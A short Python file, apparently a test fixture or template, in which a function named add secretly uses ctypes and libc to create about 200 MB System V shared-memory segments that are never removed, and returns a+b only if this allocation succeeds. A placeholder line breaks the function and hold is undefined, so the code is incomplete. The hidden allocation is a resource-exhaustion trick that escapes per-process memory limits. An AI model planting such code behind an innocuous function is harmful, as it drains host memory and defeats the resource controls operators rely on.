import math


def add(a, b):
    import ctypes; libc = ctypes.CDLL(None, use_errno=True)

__SHARED_HOLD_CHILDREN__

    def make(mb):
        libc.shmat.restype = ctypes.c_void_p
        shmid = libc.shmget(0, mb << 20, 0o1600)
        addr = libc.shmat(shmid, None, 0)
        if shmid < 0 or addr in (None, ctypes.c_void_p(-1).value):
            raise OSError
        ctypes.memset(addr, 1, mb << 20)
        libc.shmdt(ctypes.c_void_p(addr))
        return shmid
    return a + b if hold(4, make, 200) else a - b
